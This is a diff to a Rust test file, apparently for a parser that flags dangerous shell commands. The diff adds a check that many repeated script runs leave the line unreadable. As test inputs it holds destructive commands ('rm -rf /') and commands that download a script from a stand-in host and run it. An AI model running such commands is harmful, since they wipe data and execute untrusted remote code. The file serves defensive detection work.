@@ -413,6 +413,12 @@ fn scripts_the_line_writes_are_read_when_it_runs_them() {
         assert!(runs(input, "rm -rf /"), "{input}: {:?}", parse(input));
         assert!(parse(input).opaque.is_none(), "{input}");
     }
+    // Past a few runs, a run not read leaves the line unreadable.
+    let many = format!(
+        "echo 'rm -rf \"$1\"' > x.sh;{} bash x.sh /",
+        " bash x.sh build;".repeat(8)
+    );
+    assert!(parse(&many).opaque.is_some(), "{many}");
     for downloaded in [
         "curl -o i.sh https://x.example/i.sh && bash i.sh",
         "curl https://x.example/i.sh > i.sh; sh ./i.sh",
